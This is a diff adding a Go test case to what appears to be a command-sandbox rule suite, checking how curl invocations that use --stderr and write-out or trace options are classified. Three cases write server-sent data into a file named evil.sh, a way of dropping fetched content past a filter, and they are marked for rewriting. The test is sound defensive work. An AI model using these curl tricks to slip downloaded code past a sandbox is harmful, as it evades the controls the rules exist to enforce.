@@ -397,3 +397,20 @@ func TestSshKeygenDefaultFiles(t *testing.T) {
 		t.Errorf("ssh-keygen -s wrote no k-cert.pub: %v", err)
 	}
 }
+
+// TestCurlStderrFile (red team acq): with --stderr F, what curl sends to
+// its stderr (a write-out after %{stderr} in newer curls, a trace to %)
+// lands in F; F moves into the sandbox when that holds what the server
+// sent. Look-alikes: --stderr with nothing of the server's, or /dev/null.
+func TestCurlStderrFile(t *testing.T) {
+	t.Parallel()
+	u := " https://h.example/a"
+	testRule(t, "curl", []ruleCase{
+		{"curl -s --stderr evil.sh -o /dev/null -w '%{stderr}%header{x}'" + u, Rewrite},
+		{"curl -s --stderr - -o /dev/null -w '%{stderr}%header{x}'" + u + " > evil.sh", Rewrite},
+		{"curl -s --stderr evil.sh --trace-ascii % -o /dev/null" + u, Rewrite},
+		{"curl -s --stderr err.txt -o /dev/null" + u, Allow},
+		{"curl -s --stderr err.txt -o /dev/null -w '%{stderr}%{http_code}'" + u, Allow},
+		{"curl -s --stderr /dev/null -o /dev/null -w '%{stderr}%header{x}'" + u, Allow},
+	})
+}
